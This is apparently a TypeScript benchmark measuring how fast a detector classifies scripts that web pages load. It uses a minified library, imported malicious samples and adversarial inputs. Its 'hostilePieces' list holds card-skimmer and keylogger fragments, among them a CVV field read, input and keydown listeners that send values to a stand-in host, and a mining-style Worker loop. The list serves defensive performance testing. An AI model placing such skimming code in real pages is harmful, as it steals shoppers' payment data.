/** The script classifier on a minified library, on malicious scripts and on adversarial texts. */
import { readFileSync } from 'node:fs';
import { minifySync } from '@swc/core';
import { maliciousSamples } from '../src/detectors/script-classifier/samples/malicious-samples.ts';
import { classifyScript } from '../src/detectors/script-classifier/script-classifier.ts';
import { type Benchmark, type Figure, median } from './support/benchmark.ts';

const KILOBYTES_100 = 100_000;
/** 100 KB in 150 ms. */
const FLOOR = 0.667;

/** Milliseconds of processor time, which other load affects little; median of some rounds. */
function time(code: string, rounds: number): number {
  return median(
    Array.from({ length: rounds }, () => {
      const start = process.cpuUsage();
      classifyScript(code);
      const { user, system } = process.cpuUsage(start);
      return (user + system) / 1000;
    }),
  );
}

const per100 = (code: string, rounds: number): number =>
  (time(code, rounds) / code.length) * KILOBYTES_100;

/** An installed library, minified as for browsers. */
function minifiedLibrary(): string {
  const source = readFileSync('node_modules/acorn/dist/acorn.js', 'utf8');
  return minifySync(source, { compress: true, mangle: true }).code;
}

/** Repeated prefixes of constructs that the classifier analyses in depth. */
const hostilePieces: readonly string[] = [
  ...['a;', '+1', "+'a'", 'a();', 'a.b;', "a['b'];", '[a]=b;', 'a=b;', 'f(a,a);', '(a=>a)(a);'],
  ...[
    'fetch(a);',
    'eval(a);',
    "atob('YWE=');",
    'document.write(a);',
    's+=String.fromCharCode(a^1);',
  ],
  ...["'a'.split('').join('');", "document.querySelector('#cvv').value;", 'a.push(a.shift());'],
  ...[
    "location.href.indexOf('checkout');",
    'function f(a){return a}f(f);',
    'var a=a+a;',
    '/(?<a>b)/;',
  ],
  ...[
    'if(/cvv/.test(e.name))s(e.value);',
    "document.addEventListener('input',({target:t})=>{fetch('//x.test/'+t.value)});",
    'var r=fetch(u+document.forms[0].a.value);r.ok;',
    'for(;;){const h=f(n++);if(h<t)postMessage(h)}',
    "new Worker(URL.createObjectURL(new Blob(['onmessage=function(){}'])));",
  ],
  ...["a.on('keydown',function(e){fetch(e.key)});", 'this.a=this.b;', '{let a=1;a}', 'x=[1,2];'],
];

const filled = (piece: string, length: number): string =>
  `x=1;${piece.startsWith('+') ? '1' : ''}${piece.repeat(Math.floor(length / piece.length))}`;

function slowest(): readonly Figure[] {
  const times = hostilePieces.map((piece) => ({ piece, ms: per100(filled(piece, 150_000), 1) }));
  const { piece } = times.reduce((most, it) => (it.ms > most.ms ? it : most));
  const [short, long] = [filled(piece, 70_000), filled(piece, 280_000)].map((it) => per100(it, 3));
  const name = JSON.stringify(piece.slice(0, 16));
  return [
    {
      what: `slowest of ${times.length} hostile texts (${name})`,
      value: long ?? 0,
      unit: 'ms per 100 KB',
    },
    {
      what: 'its rate at 280 KB ÷ at 70 KB (linear: 1)',
      value: (short ?? 0) / (long ?? 1),
      unit: '×',
      floor: 0.5,
    },
  ];
}

export const scriptClassifier: Benchmark = {
  name: 'script-classifier',
  what: 'scores of scripts that pages load',
  async run() {
    const library = minifiedLibrary();
    per100(library, 5);
    const ms = per100(library, 15);
    const samples = maliciousSamples.map(({ code }) => time(code, 3));
    const size = Math.round(library.length / 1000);
    return [
      { what: `a minified library of ${size} KB`, value: ms, unit: 'ms per 100 KB' },
      { what: 'the same as a rate', value: KILOBYTES_100 / 1000 / ms, unit: 'MB/s', floor: FLOOR },
      { what: 'a malicious sample, median', value: median(samples), unit: 'ms' },
      ...slowest(),
    ];
  },
};
